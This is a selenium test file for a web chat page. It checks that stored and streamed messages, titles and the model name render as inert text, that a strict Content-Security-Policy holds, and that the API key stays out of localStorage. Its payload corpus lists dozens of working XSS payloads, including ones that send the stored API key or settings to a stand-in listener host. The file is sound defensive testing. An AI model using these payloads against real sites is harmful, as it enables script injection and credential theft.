"""The web chat page never turns text into markup (headless Chromium via selenium, as in test_webui.py).

Hostile text in saved conversations (assistant and user messages, reasoning, errors, titles), in
live streamed answers and in the model name must show as text: no script runs (the page title and
window.__pwned stay as they were, a listener on 127.0.0.1 that the payloads call gets no request),
no element in the messages carries an on* attribute, no <script>/<iframe>/<object>/<embed>/<style>/
<img>/... is created, every link is http(s) or mailto. The page itself carries a strict
Content-Security-Policy with no inline script or style, and loads without a CSP report. The API key
stays out of localStorage unless the user asks to remember it."""
import http.server
import json
import re
import threading
import time

import pytest
import requests

selenium = pytest.importorskip("selenium")
from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.common.keys import Keys  # noqa: E402
from selenium.webdriver.support.ui import WebDriverWait  # noqa: E402

from test_webui import make_driver  # noqa: E402

SENTINEL = "yiti-xss-sentinel"

# Runs in every page before the page's own script: collects CSP violation reports (there must be
# none: a report means that something tried to run or load).
INIT_SCRIPT = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
  (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || '')));
"""

# The messages area holds only what the renderer makes; payload text must never add elements,
# event handlers, styles or non-http(s)/mailto links. Returns the problems found (empty: fine).
CHECK_DOM = r"""
const ALLOWED = new Set(['DIV', 'SPAN', 'P', 'BR', 'STRONG', 'EM', 'DEL', 'CODE', 'PRE', 'BUTTON', 'A', 'H1', 'H2', 'H3',
  'H4', 'H5', 'H6', 'HR', 'UL', 'OL', 'LI', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'BLOCKQUOTE', 'DETAILS',
  'SUMMARY', 'B']);
const bad = [];
const roots = arguments.length && arguments[0] ? [arguments[0]]
  : [document.getElementById('messages'), document.getElementById('conv-list'), document.getElementById('topbar')];
for (const root of roots) {
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toUpperCase();
    if (!ALLOWED.has(tag)) bad.push('element <' + tag + '>');
    for (const a of el.attributes)
      if (/^on/i.test(a.name) || ['style', 'src', 'srcdoc', 'action', 'formaction', 'data', 'background'].includes(a.name))
        bad.push('<' + tag + '> with ' + a.name + '=' + a.value);
  }
  // Inside message text, only the renderer's own classes and attributes.
  for (const el of root.querySelectorAll('.content *, .rcontent *')) {
    for (const c of el.classList) if (c !== 'lang' && c !== 'copy') bad.push('class ' + c);
    const ok = el.tagName === 'A' ? ['href', 'target', 'rel', 'title'] : ['class', 'type'];
    for (const a of el.attributes) if (!ok.includes(a.name)) bad.push('<' + el.tagName + '> with ' + a.name);
  }
  for (const a of root.querySelectorAll('a')) {
    const raw = a.getAttribute('href');
    let u = null;
    try { u = new URL(raw); } catch (e) {}
    if (!u || !['http:', 'https:', 'mailto:'].includes(u.protocol)) bad.push('link to ' + raw);
    if (a.getAttribute('target') !== '_blank' || !/\bnoopener\b/.test(a.rel) || !/\bnoreferrer\b/.test(a.rel))
      bad.push('link without target=_blank rel=noopener noreferrer: ' + a.outerHTML);
  }
}
for (const el of document.querySelectorAll('iframe, object, embed, frame, base, meta[http-equiv]'))
  bad.push('document has <' + el.tagName + '>');
return bad;
"""


def corpus(port):
    """Classic markdown / HTML injection payloads. They set window.__pwned, change the page title,
    or call the listener on 127.0.0.1:port."""
    listen = f"http://127.0.0.1:{port}/"
    w = "window.__pwned=1"
    p = [
        # The reported defect, exactly as reported: an auto-link inside a link's address broke out of href.
        "[click](/(https://x/class='cursor'/onanimationstart='document.title=/PWNED/.source')",
        # ... and the same with a payload that sends the API key from the settings to another address.
        "[key](/(https://x/class='cursor'/onanimationstart='location=/http:\\/\\/127.0.0.1:%d\\/?k=/.source"
        "+settings.api_key')" % port,
        f"[key](/(https://x/class='cursor'/onanimationstart='{w}')",
        f"See (https://x/class='cursor'/onanimationstart='{w}')",
        f'[a](https://x/"onmouseover="{w}"class="cursor"onanimationstart="{w})',
        # Raw HTML.
        f"<script>{w};document.title='PWNED'</script>",
        f'<img src=x onerror="{w}">',
        f"<img src=x onerror=fetch('{listen}?k='+encodeURIComponent(localStorage.getItem('yiti.settings')))>",
        f"<svg onload={w}>",
        f"<svg><animate onbegin={w} attributeName=x dur=1s>",
        f'<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
        f'<iframe src="javascript:parent.__pwned=1"></iframe>',
        f'<object data="javascript:{w}"></object>',
        f'<embed src="javascript:{w}">',
        f"<details open ontoggle={w}>x</details>",
        f'<details ontoggle="{w}" open><summary>s</summary>x</details>',
        f'<style>@keyframes pw{{from{{opacity:0}}}}</style><div style="animation:pw 1s" onanimationstart="{w}">x</div>',
        f'<div class="cursor" onanimationstart="{w}">x</div>',
        f"<style>.msg{{background:url({listen}style)}}</style>",
        f'<link rel=stylesheet href="{listen}css">',
        f'<img src="{listen}pixel.png">',
        f"<body onload={w}>",
        f"<input autofocus onfocus={w}>",
        f"<video><source onerror={w}></video>",
        f"<marquee onstart={w}>x</marquee>",
        f'<a href="javascript:{w}">click</a>',
        f'<a href="https://x" onclick="{w}">x</a>',
        f'<form action="javascript:{w}"><button>go</button></form>',
        f'<meta http-equiv="refresh" content="0;url=javascript:{w}">',
        '<base href="javascript:/">',
        f"<math><mtext><table><mglyph><style><img src=x onerror={w}>",
        f'<noscript><p title="</noscript><img src=x onerror={w}>">',
        f'<!--<img src="--><img src=x onerror={w}>-->',
        f"<template><img src=x onerror={w}></template>",
        f"</div></div><img src=x onerror={w}>",
        f"<think><img src=x onerror={w}></think>after thinking",
        f"&lt;img src=x onerror={w}&gt; &#60;script&#62;{w}&#60;/script&#62;",
        # Markdown links and images to script, data and vbscript addresses.
        f"[a](javascript:{w})",
        f"[a](JaVaScRiPt:{w})",
        f"[a]( javascript:{w} )",
        f"[a](java\tscript:{w})",
        f"[a](\x01javascript:{w})",
        f"[a](javascript&#58;{w})",
        f"[a](&#106;avascript:{w})",
        "[a](javascript://%0Awindow.__pwned=1)",
        f"[a](<javascript:{w}>)",
        f"[a](<java\tscript:{w}>)",
        "[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)",
        f"[a](DATA:text/html,<script>{w}</script>)",
        "[a](vbscript:msgbox(1))",
        f'[a](javascript:{w} "title")',
        f"![x](javascript:{w})",
        f'![x" onerror="{w}](https://x/y.png)',
        f'![x](https://x/y.png"onerror="{w})',
        f"![x]({listen}pixel2.png)",
        # Quotes and backticks in link text, titles and addresses; auto-links with quotes.
        f'[a](https://x/" onmouseover="{w})',
        f"[a](https://x/'onmouseover='{w}')",
        f'[a](https://x "t\\" onmouseover=\\"{w}")',
        f"[a](https://x 't' onmouseover='{w}')",
        f'[a](https://x "t" onmouseover="{w}")',
        f'[a](https://x "t\'><img src=x onerror={w}>")',
        f"[a`b](https://x/`onmouseover=`{w})",
        f'[`"><img src=x onerror={w}>`](https://x)',
        f'["><img src=x onerror={w}>](https://x)',
        f"[<img src=x onerror={w}>](https://x)",
        f"[a](https://x/?q=<script>{w}</script>)",
        f'[a](mailto:a@b.c"onmouseover="{w})',
        f'https://x/"onmouseover="{w}"',
        f'<https://x/"onmouseover="{w}">',
        f"(https://x/'onmouseover='{w}')",
        f"https://x/`onmouseover=`{w}`",
        # Emphasis, code and blocks around it.
        f"**[a](javascript:{w})**",
        f'*__[a](https://x/" onclick="{w})__*',
        f"~~<img src=x onerror={w}>~~ _<svg onload={w}>_",
        f"```html\n<script>{w}</script>\n<img src=x onerror={w}>\n```",
        f'```"><img src=x onerror={w}>\nbody\n```',
        f"~~~ <img src=x onerror={w}>\nan open fence, as while streaming",
        f"`<img src=x onerror={w}>` and ``<svg onload={w}>``",
        f"| a | <img src=x onerror={w}> |\n|---|---|\n| <script>{w}</script> | [x](javascript:{w}) |",
        f"> <svg onload={w}>\n> [a](javascript:{w})\n>> <iframe srcdoc=x>",
        f"- <img src=x onerror={w}>\n- [a](vbscript:x)\n1. <b onmouseover={w}>b</b>",
        f"# <img src=x onerror={w}>\n## [h](javascript:{w})",
    ]
    return p


def conversations(payloads, per=10):
    """Saved conversations in the page's format, each payload as a user and an assistant message
    (content, reasoning, error) and in the titles. The first one holds the reported defect."""
    convs = []
    for k in range(0, len(payloads), per):
        group = payloads[k:k + per]
        msgs = []
        for j, pl in enumerate(group):
            msgs.append({"role": "user", "content": pl})
            a = {"role": "assistant", "content": pl, "reasoning": pl,
                 "stats": {"tokens": 3, "tps": 2.5, "ttft": 10, "finish": pl if j == 0 else "stop"}}
            if j == 1:
                a["error"] = pl
            msgs.append(a)
        n = len(convs)
        convs.append({"id": f"c{n}", "title": f"C{n} {group[0]}", "messages": msgs, "updated": 1000 - n})
    return convs


class Listener:
    """An HTTP server on 127.0.0.1 that records every request (the payloads' exfiltration target)."""

    def __init__(self):
        hits = self.hits = []

        class H(http.server.BaseHTTPRequestHandler):
            def hit(self):
                hits.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = do_OPTIONS = do_HEAD = hit

            def log_message(self, *a):
                pass

        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.port = self.srv.server_address[1]
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()

    def close(self):
        self.srv.shutdown()
        self.srv.server_close()


@pytest.fixture(scope="module")
def listener():
    lst = Listener()
    yield lst
    lst.close()


@pytest.fixture(scope="module")
def driver():
    d = make_driver(browser_log=True)
    d.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": INIT_SCRIPT})
    yield d
    d.quit()


def browser_log(driver):
    """The browser console's messages since the last call (None where the driver cannot tell)."""
    try:
        return [e.get("message", "") for e in driver.get_log("browser")]
    except Exception:  # noqa: BLE001 (a driver without the log endpoint)
        return None


def csp_complaints(log):
    return [m for m in (log or []) if re.search(r"Content.Security.Policy|Trusted.?Type|Refused to", m, re.I)]


def state(driver):
    return driver.execute_script("return {title: document.title, pwned: window.__pwned === undefined ? null : "
                                 "String(window.__pwned), csp: window.__csp || []};")


def assert_clean(driver, listener, title):
    st = state(driver)
    assert st["title"] == title, "a payload changed the page title"
    assert st["pwned"] is None, "a payload ran"
    assert not listener.hits, f"a payload reached the listener: {listener.hits}"
    assert not st["csp"], f"CSP violations (something tried to run or load): {st['csp'][:5]}"
    problems = driver.execute_script(CHECK_DOM)
    assert not problems, problems[:10]


def wait(driver, pred, timeout=30):
    return WebDriverWait(driver, timeout).until(pred)


def load_with(driver, url, convs=None, current=None, settings=None):
    """Opens the page with this localStorage (cleared first)."""
    driver.get(url + "/")
    driver.execute_script(
        "localStorage.clear(); sessionStorage.clear();"
        "if (arguments[0] != null) localStorage.setItem('yiti.conversations', arguments[0]);"
        "if (arguments[1] != null) localStorage.setItem('yiti.current', arguments[1]);"
        "if (arguments[2] != null) localStorage.setItem('yiti.settings', arguments[2]);",
        None if convs is None else json.dumps(convs), None if current is None else json.dumps(current),
        None if settings is None else json.dumps(settings))
    driver.refresh()


def test_page_has_csp_and_no_inline_code(stories):
    for path in ("/", "/index.html"):
        r = stories.get(path)
        assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/html")
        csp = r.headers.get("Content-Security-Policy")
        assert csp, "the page has no Content-Security-Policy header"
        d = {}
        for part in csp.split(";"):
            words = part.split()
            if words:
                d[words[0].lower()] = words[1:]
        assert d["default-src"] == ["'none'"] and d["script-src"] == ["'self'"] and d["style-src"] == ["'self'"]
        assert d["connect-src"] == ["'self'"] and d["base-uri"] == ["'none'"] and d["form-action"] == ["'none'"]
        assert d["frame-ancestors"] == ["'none'"]
        assert "unsafe-inline" not in csp and "unsafe-eval" not in csp and "*" not in csp
        assert r.headers.get("X-Content-Type-Options") == "nosniff"
        assert r.headers.get("Referrer-Policy") == "no-referrer" and r.headers.get("X-Frame-Options") == "DENY"
        html = r.text
        scripts = re.findall(r"<script\b[^>]*>", html, re.I)
        assert scripts and all(re.search(r"\ssrc=", s) for s in scripts), f"inline script: {scripts}"
        assert not re.search(r"<script\b[^>]*>[^<]+</script", html, re.I)
        assert not re.search(r"<style\b", html, re.I), "inline <style>"
        assert not re.search(r"\sstyle\s*=", html, re.I), "style= attribute"
        assert not re.search(r"\son[a-z]+\s*=", html, re.I), "inline event handler attribute"
        assert "javascript:" not in html.lower()
    js = stories.get("/app.js")
    assert js.status_code == 200 and js.headers["Content-Type"] == "text/javascript; charset=utf-8"
    assert js.headers.get("X-Content-Type-Options") == "nosniff" and js.headers.get("Content-Security-Policy")
    assert "/v1/chat/completions" in js.text
    # No HTML-string sink and no eval anywhere in the script.
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function",
                 "createContextualFragment", "DOMParser", "srcdoc"):
        assert sink not in js.text, sink
    css = stories.get("/app.css")
    assert css.status_code == 200 and css.headers["Content-Type"] == "text/css; charset=utf-8"
    assert css.headers.get("X-Content-Type-Options") == "nosniff" and ".msg" in css.text


def test_normal_use_has_no_csp_violation(stories, driver, listener):
    load_with(driver, stories.url, settings={"system": "", "temperature": 0, "max_tokens": 8, "api_key": ""})
    wait(driver, lambda d: d.find_element(By.ID, "model-name").text not in ("", "\u2026"))
    browser_log(driver)  # (drops what came before this load)
    driver.refresh()
    wait(driver, lambda d: d.find_element(By.ID, "model-name").text not in ("", "\u2026"))
    assert not driver.find_element(By.ID, "model-name").text.startswith("(")
    # Settings dialog, a message with a streamed answer, a rendered code block, a new chat.
    driver.find_element(By.ID, "open-settings").click()
    driver.find_element(By.ID, "close-settings").click()
    box = driver.find_element(By.ID, "input")
    box.send_keys("Hello")
    box.send_keys(Keys.ENTER)
    wait(driver, lambda d: d.execute_script("const m = document.querySelector('.msg.assistant'); return m && m.dataset.done === '1';"), 60)
    el = driver.execute_script("const d = messageEl({role: 'assistant', content: ''}, 99);"
                               "document.getElementById('messages').appendChild(d);"
                               "fillMessage(d, {role: 'assistant', content: '# T\\n\\n```js\\nx\\n```\\n[l](https://example.com/)',"
                               " reasoning: 'r'}, true); return d.querySelectorAll('pre, a, h1, details').length;")
    assert el == 4
    driver.find_element(By.ID, "new-chat").click()
    time.sleep(0.3)
    st = state(driver)
    assert st["title"] == "yiti chat" and not st["csp"], st["csp"]
    log = browser_log(driver)
    if log is not None:
        assert not csp_complaints(log), csp_complaints(log)
    assert not listener.hits


def test_saved_conversations_render_as_text(stories, driver, listener):
    payloads = corpus(listener.port)
    assert len(payloads) >= 40
    convs = conversations(payloads)
    # A key "remembered" in this browser: the exfiltration payloads would send it.
    load_with(driver, stories.url, convs, "c0",
              {"system": "", "temperature": 0, "max_tokens": 8, "api_key": "sekrit-exfil", "remember_key": True})
    wait(driver, lambda d: len(d.find_elements(By.CSS_SELECTOR, "#conv-list .conv")) == len(convs))
    wait(driver, lambda d: len(d.find_elements(By.CSS_SELECTOR, "#messages .msg")) == len(convs[0]["messages"]))
    time.sleep(0.5)  # (animations start, images fail: handlers would have run by now)
    assert_clean(driver, listener, "yiti chat")
    driver.execute_script("document.title = arguments[0];", SENTINEL)
    by_title = {c["title"]: c for c in convs}
    titles = driver.execute_script("return [...document.querySelectorAll('#conv-list .conv .title')].map((e) => e.textContent);")
    assert sorted(titles) == sorted(by_title), "the titles are not shown as text"
    for k in range(len(convs)):
        driver.find_elements(By.CSS_SELECTOR, "#conv-list .conv .title")[k].click()
        c = by_title[titles[k]]
        wait(driver, lambda d: d.execute_script("return document.querySelector('#conv-list .conv.active .title').textContent;")
             == c["title"], 10)
        # Reasoning blocks open too (toggle handlers, content).
        driver.execute_script("document.querySelectorAll('#messages details').forEach((e) => (e.open = true));")
        shown = driver.execute_script("return [...document.querySelectorAll('#messages .msg.user .content')].map((e) => e.textContent);")
        assert shown == [m["content"] for m in c["messages"] if m["role"] == "user"], "user messages not shown as text"
        texts = driver.execute_script("return [...document.querySelectorAll('#messages .msg.assistant .content')].map((e) => e.textContent);")
        for m, t in zip([m for m in c["messages"] if m["role"] == "assistant"], texts):
            if m["content"].startswith("<img src=x"):
                assert "<img src=x" in t, "raw HTML is not shown as text"
        time.sleep(0.15)
        assert_clean(driver, listener, SENTINEL)
    time.sleep(0.5)
    assert_clean(driver, listener, SENTINEL)
    log = browser_log(driver)
    if log is not None:
        assert not csp_complaints(log), csp_complaints(log)[:5]


def test_streaming_render_path(stories, driver, listener):
    """Every prefix of every payload (as it arrives while streaming) through fillMessage, the
    function the streaming path redraws the answer with."""
    payloads = corpus(listener.port)
    load_with(driver, stories.url)
    wait(driver, lambda d: d.find_element(By.ID, "model-name").text not in ("", "\u2026"))
    driver.execute_script("document.title = arguments[0];", SENTINEL)
    problems = driver.execute_script(
        "const check = function () {" + CHECK_DOM + "};"
        "const d = document.createElement('div'); d.className = 'msg assistant';"
        "d.appendChild(document.createElement('div')).className = 'body';"
        "document.getElementById('messages').appendChild(d);"
        "const bad = [];"
        "for (const p of arguments[0]) {"
        "  for (let n = 1; n <= p.length; n++) {"
        "    fillMessage(d, {role: 'assistant', content: p.slice(0, n), reasoning: p.slice(0, n)}, true);"
        "    for (const b of check(d)) bad.push(JSON.stringify(p.slice(0, n)) + ': ' + b);"
        "  }"
        "  fillMessage(d, {role: 'assistant', content: p, reasoning: p, error: p}, false);"
        "  for (const b of check(d)) bad.push(JSON.stringify(p) + ': ' + b);"
        "}"
        "return bad.slice(0, 20);", payloads)
    assert not problems, problems
    time.sleep(0.5)
    assert_clean(driver, listener, SENTINEL)


class FakeApi:
    """Serves the real page (proxied from a yiti server, headers included) with a fake API: the model
    name and the streamed answers are hostile."""

    MODEL = "<img src=x onerror=window.__pwned=1>[m](javascript:window.__pwned=1)"

    def __init__(self, upstream, answers):
        self.requests = 0
        fake = self

        class H(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *a):
                pass

            def reply(self, status, body, ctype, extra=()):
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body)))
                for k, v in extra:
                    self.send_header(k, v)
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                path = self.path.split("?")[0]
                if path == "/v1/models":
                    body = json.dumps({"object": "list", "data": [{"id": FakeApi.MODEL, "object": "model"}]}).encode()
                    return self.reply(200, body, "application/json")
                r = requests.get(upstream + path, timeout=10)
                keep = [(k, v) for k, v in r.headers.items()
                        if k.lower() not in ("content-length", "content-type", "content-encoding", "connection",
                                                 "transfer-encoding", "keep-alive")]
                self.reply(r.status_code, r.content, r.headers.get("Content-Type", "text/plain"), keep)

            def do_POST(self):
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                text = answers[fake.requests % len(answers)]
                fake.requests += 1
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.send_header("Connection", "close")
                self.end_headers()

                def event(obj):
                    self.wfile.write(b"data: " + json.dumps(obj).encode() + b"\n\n")
                    self.wfile.flush()

                for field in ("reasoning_content", "content"):
                    for i in range(0, len(text), 6):
                        event({"choices": [{"index": 0, "delta": {field: text[i:i + 6]}, "finish_reason": None}]})
                        time.sleep(0.002)
                event({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
                event({"choices": [], "usage": {"completion_tokens": 5}})
                self.wfile.write(b"data: [DONE]\n\n")
                self.close_connection = True

        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.url = f"http://127.0.0.1:{self.srv.server_address[1]}"
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()

    def close(self):
        self.srv.shutdown()
        self.srv.server_close()


def test_live_streamed_answers_render_as_text(stories, driver, listener):
    payloads = corpus(listener.port)
    groups = ["\n\n".join(payloads[k:k + 25]) for k in range(0, len(payloads), 25)]
    fake = FakeApi(stories.url, groups)
    try:
        load_with(driver, fake.url, settings={"system": "", "temperature": 0, "max_tokens": 8, "api_key": ""})
        wait(driver, lambda d: d.find_element(By.ID, "model-name").get_attribute("textContent") == FakeApi.MODEL)
        driver.execute_script("document.title = arguments[0];", SENTINEL)
        for n in range(len(groups)):
            box = driver.find_element(By.ID, "input")
            box.send_keys(f"go {n}")
            box.send_keys(Keys.ENTER)
            # Checked while the answer streams in, and once it is done.
            end = time.time() + 60
            while True:
                done = driver.execute_script("const m = [...document.querySelectorAll('.msg.assistant')].pop();"
                                             "return !!m && m.dataset.done === '1' && document.querySelectorAll('.msg.assistant').length == arguments[0];",
                                             n + 1)
                problems = driver.execute_script(CHECK_DOM)
                assert not problems, problems[:10]
                if done:
                    break
                assert time.time() < end, "the answer did not finish"
                time.sleep(0.05)
            driver.execute_script("document.querySelectorAll('#messages details').forEach((e) => (e.open = true));")
            time.sleep(0.2)
            assert_clean(driver, listener, SENTINEL)
        assert fake.requests == len(groups)
        # The new chat view names the (hostile) model: as text.
        driver.find_element(By.ID, "new-chat").click()
        assert driver.find_element(By.CSS_SELECTOR, "#empty b").get_attribute("textContent") == FakeApi.MODEL
        time.sleep(0.3)
        assert_clean(driver, listener, SENTINEL)
    finally:
        fake.close()


def storage_dump(driver):
    return driver.execute_script(
        "const all = {}; for (const s of [localStorage, sessionStorage]) for (let i = 0; i < s.length; i++)"
        " all[(s === localStorage ? 'local:' : 'session:') + s.key(i)] = s.getItem(s.key(i)); return all;")


def model_ok(d):
    t = d.find_element(By.ID, "model-name").text
    return t not in ("", "\u2026") and not t.startswith("(")


def model_refused(d):
    return d.find_element(By.ID, "model-name").text.startswith("(")


def set_key(driver, key, remember):
    driver.find_element(By.ID, "open-settings").click()
    k = driver.find_element(By.ID, "set-key")
    k.clear()
    k.send_keys(key)
    box = driver.find_element(By.ID, "set-remember")
    if box.is_selected() != remember:
        box.click()
    driver.find_element(By.ID, "close-settings").click()


def test_api_key_is_kept_out_of_local_storage_unless_remembered(auth_server, driver):
    key = auth_server.api_key
    load_with(driver, auth_server.url)
    wait(driver, model_refused)
    # Not remembered (the default): used, but held in memory only.
    driver.find_element(By.ID, "open-settings").click()
    assert not driver.find_element(By.ID, "set-remember").is_selected()
    label = driver.find_element(By.CSS_SELECTOR, "label[for=set-remember]").text
    assert "Remember the key on this device" in label and "stored in this browser" in label
    driver.find_element(By.ID, "close-settings").click()
    set_key(driver, key, remember=False)
    wait(driver, model_ok)
    assert not any(key in v for v in storage_dump(driver).values())
    driver.refresh()
    wait(driver, model_refused)  # gone after a reload
    assert not any(key in v for v in storage_dump(driver).values())
    # Remembered: stored in localStorage and used after a reload.
    set_key(driver, key, remember=True)
    wait(driver, model_ok)
    saved = json.loads(driver.execute_script("return localStorage.getItem('yiti.settings');"))
    assert saved["api_key"] == key and saved["remember_key"] is True
    driver.refresh()
    wait(driver, model_ok)
    driver.find_element(By.ID, "open-settings").click()
    assert driver.find_element(By.ID, "set-key").get_attribute("value") == key
    assert driver.find_element(By.ID, "set-remember").is_selected()
    # Unticked: it leaves localStorage (and is still used on this page).
    driver.find_element(By.ID, "set-remember").click()
    driver.find_element(By.ID, "close-settings").click()
    wait(driver, model_ok)
    assert not any(key in v for v in storage_dump(driver).values())
    # Settings saved by older versions of the page hold the key in plain text: it is used for this
    # page load, and removed from localStorage.
    load_with(driver, auth_server.url, settings={"system": "s", "temperature": 0.5, "max_tokens": 30, "api_key": key})
    wait(driver, model_ok)
    saved = json.loads(driver.execute_script("return localStorage.getItem('yiti.settings');"))
    assert "api_key" not in saved and saved["system"] == "s" and float(saved["temperature"]) == 0.5
    assert int(saved["max_tokens"]) == 30
    assert not any(key in v for v in storage_dump(driver).values())
    driver.refresh()
    wait(driver, model_refused)
